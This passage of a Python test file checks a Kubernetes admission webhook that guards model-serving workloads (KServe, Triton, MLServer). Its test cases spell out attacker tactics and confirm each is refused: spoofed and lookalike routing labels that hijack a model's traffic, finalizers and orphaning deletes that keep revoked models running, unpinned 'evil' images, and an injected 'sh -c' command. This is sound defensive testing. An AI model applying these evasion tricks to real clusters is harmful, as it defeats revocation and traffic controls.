    assert not review_serving(relabelled, revoked, now=NOW).allowed


def test_kserve_kinds_devmlops_never_renders_are_denied_and_runtimes_must_be_pinned_and_allow_listed() -> None:
    trained = {"kind": "TrainedModel", "metadata": {"name": "t"}, "spec": {"model": {"storageUri": "s3://x"}}}
    assert (
        "TrainedModel loads model bytes"
        in review_serving(request(trained, resource="trainedmodels", user="mallory"), evidence(), now=NOW).message
    )
    runtime = {
        "kind": "ClusterServingRuntime",
        "metadata": {"name": "r"},
        "spec": {"containers": [{"name": "s", "image": PINNED}]},
    }
    allow = (("production", ("registry.local/*",)),)

    def decide(**more: Any) -> Decision:
        return review_serving(
            request(runtime, resource="clusterservingruntimes", user="admin"), evidence(**more), now=NOW
        )

    assert decide(image_allow_lists=allow).allowed
    assert "allow-lists images" in decide().message
    runtime["spec"]["volumes"] = [{"name": "plugins", "image": {"reference": "evil/plugins@sha256:" + "9" * 64}}]
    assert "'evil/plugins@sha256:" in decide(image_allow_lists=allow).message  # an image volume is an image
    runtime["spec"]["volumes"] = [{"name": "settings", "configMap": {"name": "mlserver-settings"}}]
    assert "spec.volumes[0]: a configMap volume" in decide(image_allow_lists=allow).message
    runtime["spec"]["volumes"] = []
    runtime["spec"]["workerSpec"] = {"containers": [{"name": "w", "image": PINNED, "envFrom": [{"secretRef": {}}]}]}
    assert "spec.workerSpec.containers[0].envFrom[0]" in decide(image_allow_lists=allow).message
    runtime["spec"]["workerSpec"] = {}
    runtime["spec"]["containers"][0]["image"] = "evil/server:latest"
    assert "not pinned" in decide(image_allow_lists=allow).message


def test_an_exempt_pod_may_not_wear_the_labels_that_route_a_model_servers_traffic() -> None:
    def decide(labels: dict[str, str], **more: Any) -> Decision:
        worn = {**pod(PINNED), "metadata": {"name": "p", "labels": labels}}
        return review_serving(
            request(worn, resource="pods", user="mallory", **more),
            evidence(labels=ENFORCED, exemptions=(EXEMPTION,)),
            now=NOW,
        )

    assert decide({"team": "etl"}).allowed
    for labels in ({"devmlops.io/model-deployment": "fraud"}, {"app": "isvc.fraud-predictor"}):
        assert "route its traffic" in decide(labels).message
    plain = {**pod(PINNED), "metadata": {"name": "p", "labels": {}}}
    relabelled = decide({"serving.kserve.io/inferenceservice": "fraud"}, operation="UPDATE", old=plain)
    assert not relabelled.allowed


def test_an_exempt_workload_may_not_wear_a_models_selector_on_its_own_labels() -> None:
    """The Deployment controller adopts an orphan ReplicaSet that wears its selector on its own labels; devmlops
    refused that adoption (the template is not the model's), which failed every sync of the model's Deployment: its
    scale to zero never reached its ReplicaSet. Only template labels were checked."""
    template = {"metadata": {"labels": {"app": "decoy"}}, "spec": pod(PINNED)["spec"]}
    decoy = {
        "kind": "ReplicaSet",
        "metadata": {"name": "decoy", "labels": {"devmlops.io/model-deployment": "fraud"}},
        "spec": {"replicas": 0, "selector": {"matchLabels": {"app": "decoy"}}, "template": template},
    }
    exempt = evidence(labels=ENFORCED, exemptions=(EXEMPTION,))
    refused = review_serving(request(decoy, resource="replicasets", user="mallory"), exempt, now=NOW)
    assert not refused.allowed
    assert "devmlops.io/model-deployment" in refused.message
    decoy["metadata"]["labels"] = {"team": "etl"}
    assert review_serving(request(decoy, resource="replicasets", user="mallory"), exempt, now=NOW).allowed


def test_an_update_that_drops_or_adds_an_owner_or_relabels_a_pod_is_reviewed_in_full() -> None:
    """An orphaned model server runs on where revocation and scale-to-zero no longer reach it; a relabelled Pod is
    released by its ReplicaSet, orphaned the same way."""
    owned = {**pod(PINNED), "metadata": {"name": "p", "ownerReferences": [{"kind": "ReplicaSet", "uid": "r"}]}}
    orphaned = {**owned, "metadata": {"name": "p"}}
    dropped = review_serving(
        request(orphaned, resource="pods", user="mallory", operation="UPDATE", old=owned),
        evidence(labels=ENFORCED),
        now=NOW,
    )
    assert not dropped.allowed
    assert "spec unchanged" not in dropped.message
    relabelled = {**owned, "metadata": {**owned["metadata"], "labels": {"pod-template-hash": "other"}}}
    assert not review_serving(
        request(relabelled, resource="pods", user="mallory", operation="UPDATE", old=owned),
        evidence(labels=ENFORCED),
        now=NOW,
    ).allowed
    claimed = review_serving(
        request(owned, resource="pods", user="mallory", operation="UPDATE", old=orphaned),
        evidence(labels=ENFORCED),
        now=NOW,
    )
    assert not claimed.allowed


def test_a_finalizer_on_a_model_servers_workload_is_refused_unless_a_trusted_controller_adds_it() -> None:
    """A terminating ReplicaSet is no longer scaled by its controller (a terminating Deployment neither): a finalizer
    nobody removes kept a revoked model's Pods running after mallory deleted the workload. Metadata-only otherwise,
    and in a scale-down too."""
    old_rs = {
        "kind": "ReplicaSet",
        "metadata": {
            "name": "fraud-5d9f",
            "ownerReferences": [{"kind": "Deployment", "name": "fraud", "uid": "d1", "controller": True}],
        },
        "spec": {"replicas": 2, "template": {"spec": {"containers": [{"name": "triton", "image": PINNED}]}}},
    }
    held = copy.deepcopy(old_rs)
    held["metadata"]["finalizers"] = ["mallory.example.com/keep"]
    served = evidence(labels=ENFORCED, chain=chain_of(model("triton"), rendered("triton")))
    refused = review_serving(
        request(held, resource="replicasets", user="mallory", operation="UPDATE", old=old_rs), served, now=NOW
    )
    assert not refused.allowed
    assert "metadata.finalizers" in refused.message
    assert "mallory.example.com/keep" in refused.message
    held["spec"]["replicas"] = 1  # carried in with a scale-down
    assert not review_serving(
        request(held, resource="replicasets", user="mallory", operation="UPDATE", old=old_rs), served, now=NOW
    ).allowed
    annotated = copy.deepcopy(old_rs)
    annotated["metadata"]["annotations"] = {"team": "fraud"}
    assert review_serving(
        request(annotated, resource="replicasets", user=IDS.controllers[1], operation="UPDATE", old=old_rs),
        served,
        now=NOW,
    ).allowed
    exempt_job = {"kind": "Job", "metadata": {"name": "etl", "finalizers": ["x"]}, "spec": {"template": {}}}
    plain = {"kind": "Job", "metadata": {"name": "etl"}, "spec": {"template": {}}}
    assert review_serving(
        request(exempt_job, resource="jobs", user="mallory", operation="UPDATE", old=plain),
        evidence(labels=ENFORCED),
        now=NOW,
    ).allowed


def test_an_editor_may_not_relabel_or_annotate_a_model_servers_workload() -> None:
    """KServe writes its predictor Deployment back as it renders it: a label mallory added (once admitted as "spec
    unchanged") made KServe's scale to zero of a revoked model more than a scale-down, refused, and the model served
    on. A model server's workloads are written by their controllers only, metadata included."""
    old = kserve_deployment()
    labelled = copy.deepcopy(old)
    labelled["metadata"]["labels"] = {**(old["metadata"].get("labels") or {}), "team.example.com/owner": "mallory"}
    served = evidence(labels=ENFORCED, chain=chain_of(model(), isvc_hop()))
    refused = review_serving(
        request(labelled, resource="deployments", user="mallory", operation="UPDATE", old=old), served, now=NOW
    )
    assert not refused.allowed
    assert "the request came from 'mallory'" in refused.message
    assert review_serving(
        request(labelled, resource="deployments", user=IDS.kserve, operation="UPDATE", old=old), served, now=NOW
    ).allowed
    exempt = {"kind": "Deployment", "metadata": {"name": "etl"}, "spec": {"template": {"spec": {}}}}
    relabelled = {**exempt, "metadata": {"name": "etl", "labels": {"team": "a"}}}
    assert review_serving(
        request(relabelled, resource="deployments", user="mallory", operation="UPDATE", old=exempt),
        evidence(labels=ENFORCED),
        now=NOW,
    ).allowed


def test_the_triton_service_is_a_child_compared_with_its_rendering() -> None:
    service = render_children(parse_model_deployment(model("triton")), plan_json=PLAN, verifier_image="devmlops@v1")[1]
    chain = chain_of(model("triton"))
    assert review_serving(request(service, resource="services"), evidence(chain=chain), now=NOW).allowed
    repointed = copy.deepcopy(service)
    repointed["spec"]["selector"] = {"app": "mallorys-pods"}
    decision = review_serving(request(repointed, resource="services"), evidence(chain=chain), now=NOW)
    assert "spec.selector" in decision.message
    by_mallory = review_serving(request(service, resource="services", user="mallory"), evidence(chain=chain), now=NOW)
    assert "only the devmlops operator" in by_mallory.message


@pytest.mark.parametrize("labels", [ENFORCED, {}], ids=["enforced", "not-enforced"])
def test_a_namespaced_serving_runtime_is_refused_even_with_pinned_allow_listed_images(labels: dict[str, str]) -> None:
    runtime = {
        "kind": "ServingRuntime",
        "metadata": {"name": "r"},
        "spec": {"containers": [{"name": "s", "image": PINNED}]},
    }
    allow = (("production", ("registry.local/*",)),)
    decision = review_serving(
        request(runtime, resource="servingruntimes", user="mallory"),
        evidence(labels=labels, image_allow_lists=allow),
        now=NOW,
    )
    assert "could shadow, or be auto-selected instead of" in decision.message


def test_an_image_mounted_as_a_volume_is_an_image_the_pod_uses() -> None:
    spec = {
        "containers": [{"image": PINNED}],
        "volumes": [{"name": "w", "image": {"reference": "evil/weights:latest"}}],
    }
    assert pod_images(spec) == [PINNED, "evil/weights:latest"]


def test_a_service_may_not_take_the_name_of_a_models_service() -> None:
    """In an enforced namespace every Service is reviewed: one no model owns may not carry a model's address."""
    impostor = {"kind": "Service", "metadata": {"name": "fraud-predictor"}, "spec": {"type": "ExternalName"}}
    denied = review_serving(
        request(impostor, resource="services", user="mallory"), evidence(labels=ENFORCED, reserved_for="fraud"), now=NOW
    )
    assert not denied.allowed
    assert "ModelDeployment fraud's Service" in denied.message
    other = {"kind": "Service", "metadata": {"name": "web"}, "spec": {"selector": {"app": "web"}}}
    assert review_serving(
        request(other, resource="services", user="mallory"), evidence(labels=ENFORCED), now=NOW
    ).allowed
    assert service_owner_candidates("fraud-predictor") == ("fraud-predictor", "fraud")
    assert service_owner_candidates("-predictor") == ("-predictor",)


def test_an_orphaning_delete_of_a_model_server_or_its_owner_is_refused_and_any_other_delete_passes() -> None:
    def delete(kind: GroupVersionKind, stored: dict[str, Any], **options: Any) -> Decision:
        ask = AdmissionRequest(
            uid="u", kind=kind, operation="DELETE", namespace="ml", name="fraud", username="mallory", groups=(),
            object=None, old_object=stored, options={"kind": "DeleteOptions", **options},
        )  # fmt: skip
        return decide(ask, PolicySet(), Evidence(), FakeVerifier(), None)

    md = GroupVersionKind("devmlops.io", "v1alpha1", "ModelDeployment")
    apps = GroupVersionKind("apps", "v1", "Deployment")
    server = {"metadata": {"labels": {"devmlops.io/model-deployment": "fraud"}}, "spec": {}}
    web = {"metadata": {"labels": {"app": "web"}}, "spec": {"template": {"spec": {"containers": [{"image": "nginx"}]}}}}
    assert "propagationPolicy Orphan" in delete(md, {}, propagationPolicy="Orphan").message
    assert not delete(apps, server, propagationPolicy="Orphan").allowed
    assert not delete(apps, server, orphanDependents=True).allowed
    assert delete(apps, web, propagationPolicy="Orphan").allowed
    assert delete(md, {}, propagationPolicy="Background").allowed


# -- KServe behind the guard (a ClusterServingRuntime declared to run MLServer) --------------------------------------


def _predictor(child: dict[str, Any]) -> dict[str, Any]:
    return dict(child["spec"]["predictor"])


KSERVE_GUARD_EDITS: dict[str, Any] = {
    "the-guard-removed": lambda p: p.pop("containers"),
    "no-containers": lambda p: p.update(containers=[]),
    "another-image": lambda p: p["containers"][0].update(image=PINNED),
    "another-name": lambda p: p["containers"][0].update(name="devmlops-guard"),
    "no-config": lambda p: p["containers"][0].update(args=p["containers"][0]["args"][:-1]),
    "a-command": lambda p: p["containers"][0].update(command=["sh", "-c", "sleep infinity"]),
    "a-second-sidecar": lambda p: p["containers"].append({"name": "proxy", "image": PINNED, "ports": []}),
    "mlserver-on-every-interface": lambda p: p["model"]["env"][0].update(value="0.0.0.0"),  # noqa: S104
    "mlserver-host-dropped": lambda p: p["model"]["env"].pop(0),
    "mlserver-host-twice": lambda p: p["model"]["env"].append({"name": "MLSERVER_HOST", "value": "0.0.0.0"}),  # noqa: S104
    "a-port-on-the-model": lambda p: p["model"].update(ports=[{"name": "direct", "containerPort": 8080}]),
    "a-port-added-to-the-guard": lambda p: p["containers"][0]["ports"].append({"containerPort": 8080}),
    "the-runtime-dropped": lambda p: p["model"].pop("runtime"),
    "the-readiness-probe-dropped": lambda p: p["model"].pop("readinessProbe"),
    "the-plan-without-the-settings-refusal": lambda p: p["annotations"].update({"devmlops.io/verification": PLAN}),
}


@pytest.mark.parametrize("edit", list(KSERVE_GUARD_EDITS))
def test_any_change_of_a_guarded_inference_service_is_denied(edit: str) -> None:
    stored = kserve_defaulted(rendered("kserve-guarded"))
    chain = evidence(chain=chain_of(model("kserve-guarded")))
    assert review_serving(request(stored, resource="inferenceservices"), chain, now=NOW).allowed
    tampered = copy.deepcopy(stored)
    KSERVE_GUARD_EDITS[edit](tampered["spec"]["predictor"])
    for user in (IDS.operator, "mallory"):
        update = request(tampered, resource="inferenceservices", operation="UPDATE", old=stored, user=user)
        decision = review_serving(update, chain, now=NOW)
        assert not decision.allowed, f"{user}: {edit} was admitted"
    assert (
        "differs from what devmlops renders"
        in review_serving(
            request(tampered, resource="inferenceservices", operation="UPDATE", old=stored), chain, now=NOW
        ).message
    )


def guarded_kserve_deployment(**model_container: Any) -> dict[str, Any]:
    """KServe's predictor Deployment for the guarded model, as KServe v0.16 merges it (the runtime's container with
    the InferenceService's model fields, then the transformer-container)."""
    predictor = _predictor(rendered("kserve-guarded"))
    server = {
        "name": "kserve-container",
        "image": PINNED,
        "args": ["--model-settings"],
        "env": [*predictor["model"]["env"], {"name": "MLSERVER_MODEL_URI", "value": "/mnt/models"}],
        "readinessProbe": predictor["model"]["readinessProbe"],
        **model_container,
    }
    deployment = kserve_deployment()
    deployment["spec"]["template"]["spec"]["containers"] = [server, copy.deepcopy(predictor["containers"][0])]
    return deployment


def _review_kserve_deployment(deployment: dict[str, Any]) -> Decision:
    allow = (("production", ("registry.local/*", "devmlops@v1")),)
    md = model("kserve-guarded")
    hop = {**rendered("kserve-guarded"), "metadata": {**rendered("kserve-guarded")["metadata"], "uid": "i1"}}
    chain = chain_of(md, hop, image_allow_lists=allow)
    return review_serving(request(deployment, resource="deployments", user=IDS.kserve), evidence(chain=chain), now=NOW)


def test_kserves_deployment_of_a_guarded_model_must_keep_the_guard_and_mlserver_on_loopback() -> None:
    ok = _review_kserve_deployment(guarded_kserve_deployment())
    assert ok.allowed, ok.message
    without_guard = guarded_kserve_deployment()
    without_guard["spec"]["template"]["spec"]["containers"].pop()
    assert "0 transformer-container container(s)" in _review_kserve_deployment(without_guard).message
    other_args = guarded_kserve_deployment()
    other_args["spec"]["template"]["spec"]["containers"][1]["args"][-1] = "--config={}"
    assert "transformer-container].args" in _review_kserve_deployment(other_args).message
    other_port = guarded_kserve_deployment()
    other_port["spec"]["template"]["spec"]["containers"][1]["ports"].insert(0, {"containerPort": 8080})
    assert "expected the guard's 8000 first" in _review_kserve_deployment(other_port).message
    everywhere = [{"name": "MLSERVER_HOST", "value": "0.0.0.0"}]  # noqa: S104
    sidecar = guarded_kserve_deployment()
    sidecar["spec"]["template"]["spec"]["containers"].append({"name": "proxy", "image": PINNED})
    assert "['proxy'] beside the model server and the guard" in _review_kserve_deployment(sidecar).message
    host = guarded_kserve_deployment()
    host["spec"]["template"]["spec"]["hostNetwork"] = True
    assert "hostNetwork: true" in _review_kserve_deployment(host).message
    for env in (everywhere, [*_predictor(rendered("kserve-guarded"))["model"]["env"], *everywhere], []):
        decision = _review_kserve_deployment(guarded_kserve_deployment(env=env))
        assert not decision.allowed, env
        assert "env MLSERVER_HOST" in decision.message


def test_a_guarded_kserve_pod_must_carry_the_plan_that_refuses_mlserver_settings() -> None:
    """The storage initializer of a model MLServer serves behind the guard refuses a settings.json among its files
    (core/plan.py: mlserver_guarded); the webhook expects the plan as rendered, flag included."""
    deployment = guarded_kserve_deployment()
    replica_set = {
        "kind": "ReplicaSet",
        "metadata": {"name": "rs"},
        "spec": {"template": deployment["spec"]["template"]},
    }
    isvc = rendered("kserve-guarded")
    hop = {**isvc, "metadata": {**isvc["metadata"], "uid": "i1"}}
    chain = chain_of(model("kserve-guarded"), replica_set, deployment, hop)
    guarded_plan = isvc["spec"]["predictor"]["annotations"]["devmlops.io/verification"]
    assert VerificationPlan.from_json(guarded_plan).mlserver_guarded
    assert not VerificationPlan.from_json(PLAN).mlserver_guarded

    def review(plan: str) -> Decision:
        pod = kserve_pod(plan=plan)
        pod["spec"]["containers"] = deployment["spec"]["template"]["spec"]["containers"]
        pod_request = request(pod, resource="pods", user=IDS.controllers[1])
        return review_serving(pod_request, evidence(chain=chain, labels=ENFORCED), now=NOW)

    assert review(guarded_plan).allowed, review(guarded_plan).message
    unflagged = review(PLAN)
    assert not unflagged.allowed
    assert "not the plan devmlops derives" in unflagged.message


FORMATS_PLAN = VerificationPlan(
    ("bundle",), DIGEST, ((1, (Authority(name="release", kind="key", public_key="PEM"),)),), formats=("onnx",)
).to_json()


def _plan_in(child: dict[str, Any]) -> tuple[dict[str, Any], str]:
    """The mapping that holds a rendered child's plan, and its key."""
    if child["kind"] == "Deployment":
        return child["spec"]["template"]["spec"]["initContainers"][0]["env"][0], "value"
    return child["spec"]["predictor"]["annotations"], "devmlops.io/verification"


@pytest.mark.parametrize("kind", ["kserve", "triton", "triton-guarded"])
def test_a_child_whose_plan_carries_the_allowed_formats_passes_and_one_without_them_is_denied(kind: str) -> None:
    """The formats (and runtime kind) the storage initializer checks are part of the plan the webhook derives: a
    child rendered from the derived plan passes; the same child with the formats dropped or widened does not."""
    parsed = parse_model_deployment(model(kind))
    child = render_children(parsed, plan_json=FORMATS_PLAN, verifier_image="devmlops@v1")[0]
    holder, key = _plan_in(child)
    carried = VerificationPlan.from_json(holder[key])
    assert (carried.formats, carried.runtime) == (("onnx",), kind.removesuffix("-guarded"))
    resource = "inferenceservices" if kind.startswith("kserve") else "deployments"
    chain = chain_of(model(kind), plan_json=FORMATS_PLAN)
    passed = review_serving(request(child, resource=resource), evidence(chain=chain), now=NOW)
    assert passed.allowed, passed.message
    for formats in (None, ("onnx", "python")):
        edited = copy.deepcopy(child)
        holder, key = _plan_in(edited)
        holder[key] = dataclasses.replace(carried, formats=formats).to_json()
        denied = review_serving(request(edited, resource=resource), evidence(chain=chain), now=NOW)
        assert not denied.allowed, formats


def _deployment(name: str, template_labels: dict[str, str], image: str = PINNED) -> dict[str, Any]:
    template = {"metadata": {"labels": template_labels}, "spec": {"containers": [{"name": "c", "image": image}]}}
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name}, "spec": {"template": template}}


@pytest.mark.parametrize(
    "labels",
    [{"devmlops.io/model-deployment": "fraud"}, {"devmlops.io/canary-of": "fraud"}, {"app": "isvc.fraud-predictor"}],
)
def test_outside_enforcement_a_workload_whose_pods_a_models_service_selects_is_reviewed_as_enforced(
    labels: dict[str, str],
) -> None:
    """The model's Service would send its clients to these Pods: only the model's own may wear the labels."""
    body = _deployment("impostor", {"app": "x", **labels})
    decision = review_serving(request(body, resource="deployments", user="mallory"), evidence(), now=NOW)
    assert not decision.allowed
    assert next(iter(labels)) in decision.message
    plain = _deployment("tool", {"app": "x"})
    assert review_serving(request(plain, resource="deployments", user="mallory"), evidence(), now=NOW).allowed


def test_outside_enforcement_an_update_that_drops_a_routing_label_is_reviewed_too() -> None:
    old = _deployment("impostor", {"devmlops.io/model-deployment": "fraud"})
    new = _deployment("impostor", {"app": "x"}, image=PINNED.replace("1" * 64, "2" * 64))
    decision = review_serving(
        request(new, resource="deployments", user="mallory", operation="UPDATE", old=old), evidence(), now=NOW
    )
    assert not decision.allowed


def test_outside_enforcement_a_pod_or_cronjob_wearing_a_routing_label_is_decided_as_enforced() -> None:
    """Pods are decided as enforced whatever the namespace's labels (the API server sends them from elsewhere only
    with a routing label); a CronJob's labels are on its job template's pod template."""
    impostor = {
        "kind": "Pod",
        "metadata": {"name": "p", "labels": {"app": "isvc.fraud-predictor"}},
        "spec": {"containers": [{"name": "c", "image": PINNED}]},
    }
    assert not review_serving(request(impostor, resource="pods", user="mallory"), evidence(), now=NOW).allowed
    template = {"metadata": {"labels": {"devmlops.io/canary-of": "fraud"}}, "spec": impostor["spec"]}
    cron = {
        "kind": "CronJob",
        "metadata": {"name": "c"},
        "spec": {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": template}}},
    }
    decision = review_serving(request(cron, resource="cronjobs", user="mallory"), evidence(), now=NOW)
    assert not decision.allowed
    assert "devmlops.io/canary-of" in decision.message


def prometheus_name(key: str) -> str:
    """A label key as Prometheus's Kubernetes discovery writes it into a meta label's name (the tests' oracle)."""
    return "".join(c if c.isascii() and (c.isalnum() or c == "_") else "_" for c in key)


def test_a_label_key_prometheus_reads_as_a_routing_label_is_one_and_no_exemption_covers_a_pod_wearing_it() -> None:
    """The guards' PodMonitor keeps a Pod by __meta_kubernetes_pod_labelpresent_devmlops_io_model_deployment (or
    ..._canary_of), which Prometheus writes for any key whose characters other than letters, digits and '_' are
    elsewhere: mallory's Pod dressed as a guard wore devmlops-io/model-deployment, outside enforcement was never sent,
    and inside it an exemption covered it (round 3 review)."""
    lookalikes = ("devmlops-io/model-deployment", "devmlops_io_model_deployment", "devmlops.io/canary.of")
    for key in lookalikes:
        assert routing_labels({key: "fraud", "app": "web"}) == [key]
        assert reserved_labels({key: "fraud"}) == [key]
        assert prometheus_name(key) in {prometheus_name(k) for k in SCRAPED_LABEL_KEYS}
    # Prometheus keeps the case: a key of capitals reads as another name.
    assert routing_labels({"Devmlops.io/model-deployment": "x", "devmlops.io/model-deployments": "x"}) == []
    for key in lookalikes:
        obj = pod(PINNED)
        obj["metadata"]["labels"] = {key: "fraud"}
        decision = review_serving(
            request(obj, resource="pods", user="mallory"), evidence(labels=ENFORCED, exemptions=(EXEMPTION,)), now=NOW
        )
        assert not decision.allowed
        assert key in decision.message
        outside = review_serving(request(obj, resource="pods", user="mallory"), evidence(), now=NOW)
        assert not outside.allowed


def test_the_lookalike_pattern_matches_what_prometheus_reads_as_the_key() -> None:
    """The pattern the webhook and the CEL matchCondition (RE2) match keys with agrees with Prometheus's naming."""
    import re

    keys = [
        "devmlops.io/model-deployment",
        "devmlops-io/model-deployment",
        "devmlops_io_model_deployment",
        "devmlops.io/model-deploymentx",
        "xdevmlops.io/model-deployment",
        "Devmlops.io/model-deployment",
        "devmlops.io/canary-of",
        "devmlops.io/canary_of",
        "devmlops.iocanary-of",
    ]
    for key in keys:
        by_pattern = any(re.fullmatch(lookalike_pattern(k), key) for k in SCRAPED_LABEL_KEYS)
        by_name = prometheus_name(key) in {prometheus_name(k) for k in SCRAPED_LABEL_KEYS}
        assert by_pattern == by_name, key
